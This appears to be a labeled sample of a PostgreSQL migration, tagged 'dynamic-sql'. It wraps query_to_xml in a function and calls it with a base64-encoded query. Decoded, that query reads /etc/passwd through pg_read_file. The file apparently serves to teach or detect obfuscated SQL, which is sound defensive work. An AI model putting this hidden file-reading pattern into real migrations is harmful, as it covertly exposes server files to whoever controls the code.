-- class: dynamic-sql
-- A SQL function passes its argument to query_to_xml; the migration calls it with a query hidden in decode(base64).
CREATE FUNCTION render_xml(q text) RETURNS xml LANGUAGE sql VOLATILE AS $$
  SELECT query_to_xml(q, true, true, '')
$$;

CREATE TABLE render_cache AS
SELECT render_xml(convert_from(decode('U0VMRUNUIHBnX3JlYWRfZmlsZSgnL2V0Yy9wYXNzd2QnKQ==', 'base64'), 'UTF8')) AS doc;
